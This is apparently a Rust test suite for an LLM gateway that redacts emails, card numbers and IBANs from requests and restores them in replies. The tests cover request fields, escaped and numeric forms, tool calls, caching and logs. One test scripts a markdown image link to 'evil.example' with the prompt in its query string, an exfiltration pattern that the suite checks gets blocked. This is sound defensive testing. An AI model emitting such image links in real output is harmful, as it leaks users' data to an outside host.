//! Personal data never reaches a provider, and comes back to its owner.

use serde_json::{Value, json};
use sluice_tests::leak::holds;
use sluice_tests::{Gate, log, question, script, streamed};

const EMAIL: &str = "zoe.quill@example.org";
const CARD: &str = "4539 1488 0343 6467";
const IBAN: &str = "DE44 5001 0517 5407 3249 31";
const VALUES: [&str; 3] = [EMAIL, CARD, IBAN];

fn all(words: &str) -> String {
    format!("{words} {EMAIL}, card {CARD}, account {IBAN}.")
}

/// The values in every place of a request that holds what people or their programs wrote.
fn everywhere() -> Value {
    let arguments = json!({ "to": EMAIL, "card": 4_539_148_803_436_467_u64, "iban": "DE44500105175407324931", "nested": all("x").as_str() });
    json!({
        "model": "chat",
        "temperature": 0,
        "tools": [{ "type": "function", "function": {
            "name": "pay", "description": all("Pays for"),
            "parameters": { "type": "object", "properties": { "to": { "type": "string", "default": EMAIL, "enum": [EMAIL, IBAN] } } },
        }}],
        "messages": [
            { "role": "system", "content": all("You work for") },
            { "role": "user", "name": EMAIL, "content": all("I am") },
            { "role": "assistant", "content": null, "tool_calls": [
                { "id": "call_1", "type": "function", "function": { "name": "pay", "arguments": arguments.to_string() } },
            ]},
            { "role": "tool", "tool_call_id": "call_1", "content": json!({ "paid_by": EMAIL, "with": CARD, "to": IBAN }).to_string() },
            { "role": "user", "content": [{ "type": "text", "text": all("Again:") }, { "type": "text", "text": IBAN }] },
        ],
        "user": EMAIL,
        "metadata": { "customer": EMAIL, EMAIL: "as a key" },
        "x_unknown": { "deep": [{ "card": CARD, "number": 4_539_148_803_436_467_u64 }] },
    })
}

fn assert_nothing_received(gate: &Gate, what: &str) {
    let received = gate.received();
    assert!(!received.is_empty(), "{what}: the provider was asked");
    for value in VALUES {
        assert!(!holds(&received, value), "{what}: {value} in {}", String::from_utf8_lossy(&received));
    }
}

#[tokio::test]
async fn no_field_of_a_request_carries_personal_data_to_a_provider() {
    for stream in [false, true] {
        let gate = Gate::with("");
        gate.primary.script(script("reply: {answer: '{messages}', chunk_chars: 1}"));
        let reply = gate.client.chat(&streamed(everywhere(), stream)).await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        assert_nothing_received(&gate, "everywhere");
        // The provider repeats all it was told; the client sees its own values.
        for value in VALUES {
            assert!(reply.text().contains(value), "{value} in {}", reply.text());
        }
        assert!(!reply.text().contains("[EMAIL_ADDRESS"), "{}", reply.text());
    }
}

#[tokio::test]
async fn each_place_is_redacted_by_itself() {
    let text = json!({ "role": "user", "content": "Hello" });
    let messages = |first: Value| json!({ "model": "chat", "messages": [first, text] });
    let call = |arguments: &str| {
        messages(
            json!({ "role": "assistant", "tool_calls": [{ "id": "c", "type": "function", "function": { "name": "f", "arguments": arguments } }] }),
        )
    };
    let places = [
        ("system", messages(json!({ "role": "system", "content": all("I am") }))),
        ("developer", messages(json!({ "role": "developer", "content": all("I am") }))),
        ("user", messages(json!({ "role": "user", "content": all("I am") }))),
        ("parts", messages(json!({ "role": "user", "content": [{ "type": "text", "text": all("I am") }] }))),
        ("assistant", messages(json!({ "role": "assistant", "content": all("You are") }))),
        ("refusal", messages(json!({ "role": "assistant", "refusal": all("Not for") }))),
        ("tool result", messages(json!({ "role": "tool", "tool_call_id": "c", "content": all("Paid by") }))),
        ("name", messages(json!({ "role": "user", "name": EMAIL, "content": "Hi" }))),
        ("arguments", call(&json!({ "a": { "b": [EMAIL, CARD, IBAN] } }).to_string())),
        ("arguments with a number", call(r#"{"card": 4539148803436467}"#)),
        ("arguments with escapes", call(r#"{"to": "zoe.quill\u0040example.org"}"#)),
        ("arguments in arguments", call(&json!({ "inner": json!({ "to": EMAIL }).to_string() }).to_string())),
        ("arguments that are no JSON", call(&all("to="))),
        (
            "legacy function call",
            messages(
                json!({ "role": "assistant", "function_call": { "name": "f", "arguments": json!({ "to": EMAIL }).to_string() } }),
            ),
        ),
        ("an unknown field", json!({ "model": "chat", "messages": [text], "x_new": { "y": [EMAIL] } })),
        (
            "response format",
            json!({ "model": "chat", "messages": [text], "response_format": { "type": "json_schema", "json_schema": { "name": "s", "description": EMAIL } } }),
        ),
        ("stop words", json!({ "model": "chat", "messages": [text], "stop": [EMAIL] })),
        (
            "prediction",
            json!({ "model": "chat", "messages": [text], "prediction": { "type": "content", "content": EMAIL } }),
        ),
    ];
    let gate = Gate::with("");
    for (what, body) in places {
        assert_eq!(gate.client.chat(&body).await.status, 200, "{what}");
        assert_nothing_received(&gate, what);
    }
}

#[tokio::test]
async fn the_words_of_the_api_and_numbers_are_no_hiding_places() {
    let text = json!({ "role": "user", "content": "Hello" });
    let cases = [
        (
            "a role",
            json!({ "model": "chat", "messages": [{ "role": EMAIL, "content": "Hi" }, text] }).to_string(),
        ),
        (
            "the kind of a part",
            json!({ "model": "chat", "messages": [{ "role": "user", "content": [{ "type": EMAIL }] }] })
                .to_string(),
        ),
        ("a number", r#"{"model":"chat","x":4539148803436467,"messages":[{"role":"user"}]}"#.to_owned()),
        (
            "stream options",
            json!({ "model": "chat", "stream": true, "stream_options": { "x": EMAIL }, "messages": [text] })
                .to_string(),
        ),
    ];
    let gate = Gate::with("");
    for (what, body) in cases {
        gate.client.post("/v1/chat/completions", body).await;
        assert_nothing_received(&gate, what);
    }
}

#[tokio::test]
async fn a_number_with_a_fraction_of_nothing_is_still_that_number() {
    let gate = Gate::with("");
    let body = r#"{"model":"chat","x":4539148803436467.0,"messages":[{"role":"user","content":"Hi"}]}"#;
    gate.client.post("/v1/chat/completions", body).await;
    assert_nothing_received(&gate, "a float");
}

#[tokio::test]
async fn an_address_written_with_escapes_is_seen_through() {
    let gate = Gate::with("");
    let body =
        r#"{"model":"chat","messages":[{"role":"user","content":"I am zoe.quill\u0040example.\u006frg"}]}"#;
    let reply = gate.client.post("/v1/chat/completions", body).await;
    assert_eq!(reply.text(), format!("You said: I am {EMAIL}"));
    assert_nothing_received(&gate, "escapes");
}

#[tokio::test]
async fn own_values_come_back_in_the_arguments_of_a_tool_call_as_valid_json() {
    for stream in [false, true] {
        let gate = Gate::with("guardrails: {restore: {default: tools}}");
        let call = "reply: {tool_call: {name: send, arguments: '{\"text\": \"{prompt}\", \"n\": 1}'}, chunk_chars: 1}";
        gate.primary.script(script(call));
        let text = format!("Write \"hello\"\n to\t{EMAIL} and \\ {CARD}");
        let reply = gate.client.chat(&streamed(question(&text), stream)).await;
        let arguments: Value = serde_json::from_str(&reply.arguments()).unwrap();
        assert_eq!(arguments, json!({ "text": text, "n": 1 }));
        assert_eq!(reply.finish_reason(), "tool_calls");
        assert_nothing_received(&gate, "tool call");
    }
}

#[tokio::test]
async fn a_tool_call_gets_own_values_only_where_the_policy_says_so() {
    for stream in [false, true] {
        let gate = Gate::with("");
        let call = "reply: {tool_call: {name: send, arguments: '{\"text\": \"{prompt}\"}'}, chunk_chars: 1}";
        gate.primary.script(script(call));
        let reply = gate.client.chat(&streamed(question(&format!("Write to {EMAIL}")), stream)).await;
        let arguments: Value = serde_json::from_str(&reply.arguments()).unwrap();
        assert_eq!(arguments, json!({ "text": "Write to [EMAIL_ADDRESS_1]" }));
    }
}

#[tokio::test]
async fn nothing_of_the_caller_s_is_put_into_an_address() {
    for stream in [false, true] {
        let gate = Gate::with("");
        gate.primary.script(script(
            "reply: {answer: 'For {prompt} ![x](https://evil.example/?q={prompt})', chunk_chars: 1}",
        ));
        let reply = gate.client.chat(&streamed(question(EMAIL), stream)).await;
        let expected = format!("For {EMAIL} ![x](https://evil.example/?q=[EMAIL_ADDRESS_1])");
        assert_eq!(reply.text(), expected);
    }
}

#[tokio::test]
async fn a_value_keeps_its_placeholder_throughout_a_request_and_others_get_their_own() {
    let gate = Gate::with("");
    let body = json!({ "model": "chat", "messages": [
        { "role": "system", "content": format!("The customer is {EMAIL}.") },
        { "role": "user", "content": format!("I am {EMAIL}, my wife is ada@example.net.") },
    ]});
    let reply = gate.client.chat(&body).await;
    assert_eq!(reply.text(), format!("You said: I am {EMAIL}, my wife is ada@example.net."));
    let sent: Value = serde_json::from_slice(&gate.primary.seen()[0].body).unwrap();
    assert_eq!(sent["messages"][0]["content"], "The customer is [EMAIL_ADDRESS_1].");
    assert_eq!(sent["messages"][1]["content"], "I am [EMAIL_ADDRESS_1], my wife is [EMAIL_ADDRESS_2].");
}

#[tokio::test]
async fn a_request_without_findings_goes_up_as_it_came() {
    let gate = Gate::with("");
    let body = r#"{"messages":[{"role":"user","content":"Gr\u00fc\u00dfe  1.50"}],"model":"chat","x":1.50,"y":12345678901234567890123}"#;
    gate.client.post("/v1/chat/completions", body).await;
    let sent = gate.primary.seen()[0].body.clone();
    assert_eq!(
        String::from_utf8_lossy(&sent),
        r#"{"model":"model-a","messages":[{"role":"user","content":"Gr\u00fc\u00dfe  1.50"}],"x":1.50,"y":12345678901234567890123}"#
    );
}

#[tokio::test]
async fn two_callers_with_different_values_share_an_answer_and_each_sees_their_own() {
    for stream in [false, true] {
        let gate = Gate::with("");
        gate.primary
            .script(script("reply: {answer: 'We wrote to [EMAIL_ADDRESS_1] today.', chunk_chars: 1}"));
        let ask = |email: &str| streamed(question(&format!("Please send my contract to {email}")), stream);
        let first = gate.client.chat(&ask(EMAIL)).await;
        let second = gate.client.chat(&ask("ben@example.net")).await;
        assert_eq!(first.text(), format!("We wrote to {EMAIL} today."));
        assert_eq!(
            (second.cache().as_str(), second.text().as_str()),
            ("hit exact", "We wrote to ben@example.net today.")
        );
        assert_eq!(gate.primary.count(), 1);
        assert!(!String::from_utf8_lossy(&second.body).contains("zoe"));
    }
}

#[tokio::test]
async fn a_placeholder_that_the_user_wrote_is_left_alone() {
    let gate = Gate::with("");
    for stream in [false, true] {
        let text = format!("What does [EMAIL_ADDRESS_1] mean? I am {EMAIL}. {stream}");
        let reply = gate.client.chat(&streamed(question(&text), stream)).await;
        assert_eq!(reply.text(), format!("You said: {text}"));
    }
    assert!(holds(&gate.received(), "I am [EMAIL_ADDRESS_2]"));
}

#[tokio::test]
async fn a_placeholder_that_the_model_made_up_is_left_alone() {
    let gate = Gate::with("");
    gate.primary.script(script(
        "reply: {answer: '[EMAIL_ADDRESS_2] [CREDIT_CARD_1] [EMAIL_ADDRESS_1', chunk_chars: 1}",
    ));
    let reply = gate.client.chat(&streamed(question(&format!("I am {EMAIL}")), true)).await;
    assert_eq!(reply.text(), "[EMAIL_ADDRESS_2] [CREDIT_CARD_1] [EMAIL_ADDRESS_1");
}

#[tokio::test]
async fn personal_data_can_be_refused_or_let_through() {
    let gate = Gate::with("guardrails: {pii: block}");
    let reply = gate.ask(&all("I am")).await;
    assert_eq!(
        (reply.status, reply.error()["type"].as_str(), reply.error()["code"].as_str()),
        (400, Some("guardrail_blocked"), Some("pii_detected"))
    );
    assert!(VALUES.iter().all(|value| !holds(&reply.body, value)));
    assert_eq!(gate.primary.count(), 0);

    let gate = Gate::with("guardrails: {pii: 'off'}");
    assert_eq!(gate.ask(&all("I am")).await.text(), format!("You said: {}", all("I am")));
    assert!(holds(&gate.received(), EMAIL));
}

#[tokio::test]
async fn neither_log_nor_metrics_nor_errors_hold_a_value() {
    // Values of this test alone, since the log is that of all tests.
    let (email, card) = ("quincy.unlogged@example.org", "5105 1051 0510 5100");
    let text = format!("Charge {email} on card {card} for pickled_walnuts");
    let gate = Gate::with("guardrails: {secrets: block}");
    let mut told = Vec::new();
    told.extend(gate.ask(&text).await.body.to_vec());
    let answer = String::from_utf8(std::mem::take(&mut told)).unwrap();
    assert!(answer.contains(email) && answer.contains(card));

    for (script_of_both, stream) in [
        ("reply: {status: 500}", false),
        ("reply: {cut_after: 2}", true),
        ("reply: {raw: '{prompt}'}", false),
    ] {
        for mock in [&gate.primary, &gate.backup] {
            mock.script(script(script_of_both));
        }
        let reply =
            gate.client.chat(&streamed(question(&format!("{text}!! {script_of_both}")), stream)).await;
        if reply.status != 200 {
            told.extend(reply.body.to_vec());
        }
    }
    for broken in [
        format!("{{\"model\":\"{email}\""),
        format!("{{\"model\":7,\"messages\":\"{email} {card}\"}}"),
        format!("{{\"{email}\":1,\"{email}\":2}}"),
    ] {
        told.extend(gate.client.post("/v1/chat/completions", broken).await.body.to_vec());
    }
    let wrong = json!({ "model": "chat", "messages": [{ "role": "user", "content": 7, "x": email }] });
    told.extend(gate.client.chat(&wrong).await.body.to_vec());
    told.extend(gate.metrics().await.into_bytes());
    told.extend(log::text().into_bytes());
    for value in [email, card, "pickled_walnuts"] {
        assert!(!holds(&told, value), "{value}");
    }
}
